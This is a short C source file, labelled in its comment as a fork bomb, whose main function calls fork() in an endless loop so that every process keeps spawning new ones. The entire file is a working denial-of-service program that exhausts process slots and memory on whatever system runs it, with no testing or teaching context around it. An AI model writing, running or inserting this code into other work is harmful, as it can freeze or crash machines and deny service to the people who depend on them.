// fork_bomb: every process forks for ever. A fork that is refused is tried again.
#include <unistd.h>

int main(void) {
  for (;;) {
    fork();
  }
}
